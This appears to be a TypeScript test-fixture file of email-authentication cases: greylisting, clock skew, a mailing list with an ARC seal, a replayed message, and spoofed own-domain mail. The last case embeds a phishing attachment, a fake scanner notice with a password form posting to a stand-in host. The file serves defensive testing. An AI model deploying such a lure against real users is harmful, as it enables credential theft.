// Samples about the way: a wait, a clock that is wrong, a list that seals what it saw, mail in the receiver's own name.
import { sealMessage } from "#lib/checks/arc/sealer.test-support.ts";
import { keyRecord } from "#lib/checks/dkim/signer.test-support.ts";
import { type Draft, harbourKeys, harbourZone, readKey, submission, timetable } from "./draft.ts";

const stored = (date: string) => `Return-Path: <post@harbour.example>
Delivered-To: robin@corp.example
Received: from mx1.corp.example (mx1.corp.example [203.0.113.10])
\tby store2.corp.example (Dovecot) with LMTP id 8KfqMw3zGWpVXAEAsB0Rkg
\tfor <robin@corp.example>; ${date}
`;

const taken = (date: string, from = "out.harbour.example", ip = "198.51.100.24") =>
  `Received: from ${from} (${from} [${ip}])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))
\tby mx1.corp.example (Postfix) with ESMTPS id 4dK2Tq1x7Tz9rSy
\tfor <robin@corp.example>; ${date}
`;

const listZone = [
  ...harbourZone,
  "lists.example\tTXT\tv=spf1 ip4:198.51.100.90 -all",
  "lists.example\tMX\t10 relay.lists.example",
  "_dmarc.lists.example\tTXT\tv=DMARC1; p=none",
  "relay.lists.example\tA\t198.51.100.90",
  "90.100.51.198.in-addr.arpa\tPTR\trelay.lists.example",
  `arc26._domainkey.lists.example\tTXT\t${keyRecord(readKey("rsa-2048"))}`,
];

const listTrace = `Return-Path: <riders-bounces+robin=corp.example@lists.example>
Delivered-To: robin@corp.example
Received: from mx1.corp.example (mx1.corp.example [203.0.113.10])
\tby store2.corp.example (Dovecot) with LMTP id 9KfqMw3zGWpVXAEAsB0Rkg
\tfor <robin@corp.example>; Mon, 16 Nov 2026 09:14:31 +0100
Authentication-Results: mx1.corp.example;
\tspf=pass smtp.mailfrom=riders-bounces+robin=corp.example@lists.example;
\tdkim=fail header.d=harbour.example header.s=nov26;
\tarc=pass; dmarc=fail header.from=harbour.example
Received: from relay.lists.example (relay.lists.example [198.51.100.90])
\tby mx1.corp.example (Postfix) with ESMTPS id 4dK2Vb1x7Tz9rSy
\tfor <robin@corp.example>; Mon, 16 Nov 2026 09:14:29 +0100 (CET)
`;

/** What the list adds: its fields, its tag, its footer; then it seals. */
function throughList(text: string): string {
  const changed = text
    .replace("Subject: Winter", "Subject: [riders] Winter")
    .replace(
      "From: Harbour",
      "List-Id: Riders of the harbour line <riders.lists.example>\r\nList-Post: <mailto:riders@lists.example>\r\nList-Unsubscribe: <mailto:riders-leave@lists.example>\r\nPrecedence: list\r\nFrom: Harbour",
    )
    .replaceAll("6:40", "6:40 sharp");
  const received = `Received: from out.harbour.example (out.harbour.example [198.51.100.24])\r\n\tby relay.lists.example (Postfix) with ESMTPS id 4dK2TzQ\r\n\tfor <riders@lists.example>; Mon, 16 Nov 2026 08:14:11 +0000\r\n`;
  const sealed = sealMessage(Buffer.from(received + changed, "latin1"), {
    domain: "lists.example",
    selector: "arc26",
    privateKey: readKey("rsa-2048"),
    algorithm: "rsa-sha256",
    canonicalization: "relaxed/relaxed",
    headers: ["From", "To", "Subject", "Date", "Message-ID", "List-Id"],
    time: 1_794_816_860,
    instance: 1,
    cv: "none",
    results:
      "relay.lists.example; dmarc=pass header.from=harbour.example; spf=pass smtp.mailfrom=post@harbour.example; dkim=pass header.d=harbour.example header.s=nov26",
  });
  return Buffer.from(sealed).toString("latin1");
}

export const wayDrafts: readonly Draft[] = [
  {
    id: "greylisted",
    trace: stored("Mon, 16 Nov 2026 09:30:14 +0100") + taken("Mon, 16 Nov 2026 09:30:12 +0100 (CET)") + submission,
    message: timetable,
    sign: harbourKeys,
    zone: harbourZone,
  },
  {
    id: "clock-ahead",
    trace:
      stored("Mon, 16 Nov 2026 09:14:11 +0100") +
      taken("Mon, 16 Nov 2026 09:14:09 +0100 (CET)") +
      submission.replace("08:14:02", "08:21:39"),
    message: timetable,
    sign: harbourKeys,
    zone: harbourZone,
  },
  {
    id: "list-with-seal",
    trace: listTrace,
    message: timetable,
    sign: harbourKeys,
    edit: throughList,
    zone: listZone,
  },
  {
    id: "sent-again",
    trace:
      stored("Wed, 18 Nov 2026 21:40:12 +0100").replace("post@harbour.example", "m7@bulk.example") +
      taken("Wed, 18 Nov 2026 21:40:09 +0100 (CET)", "mailer-77.bulk.example", "198.51.100.77"),
    message: timetable.replace("To: Robin Ward <robin@corp.example>", "To: Kim Lund <kim@far.example>"),
    sign: harbourKeys,
    zone: [
      ...harbourZone,
      "bulk.example\tTXT\tv=spf1 ip4:198.51.100.64/26 ~all",
      "mailer-77.bulk.example\tA\t198.51.100.77",
      "77.100.51.198.in-addr.arpa\tPTR\tmailer-77.bulk.example",
    ],
  },
  {
    id: "own-name-from-outside",
    trace:
      stored("Mon, 16 Nov 2026 15:02:03 +0100").replace("post@harbour.example", "") +
      taken("Mon, 16 Nov 2026 15:02:01 +0100 (CET)", "vps31.cloud.example", "198.51.100.131")
        .replace(" (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n\t", " ")
        .replace("ESMTPS", "ESMTP"),
    message: `From: Scanner at the front desk <scanner@corp.example>
To: robin@corp.example
Subject: Scan 0172, 2 pages
Date: Mon, 16 Nov 2026 14:01:58 +0000
Message-ID: <scan0172@corp.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_scan"

--=_scan
Content-Type: text/plain

Your scan is attached. Open it to sign in and read.
--=_scan
Content-Type: text/html; charset=utf-8; name="Scan_0172.htm"
Content-Disposition: attachment; filename="Scan_0172.htm"

<form action="https://sign-in.cloud.example/corp"><p>Your session has ended. Sign in to see the scan.</p>
<input name="user"><input name="password" type="password"><button>Open</button></form>
--=_scan--
`,
    sign: [],
    zone: [
      "corp.example\tTXT\tv=spf1 ip4:203.0.113.0/28 -all",
      "corp.example\tMX\t10 mx1.corp.example",
      "mx1.corp.example\tA\t203.0.113.10",
      "_dmarc.corp.example\tTXT\tv=DMARC1; p=quarantine; rua=mailto:dmarc@corp.example",
      "vps31.cloud.example\tA\t198.51.100.131",
      "131.100.51.198.in-addr.arpa\tPTR\tvps31.cloud.example",
    ],
  },
];
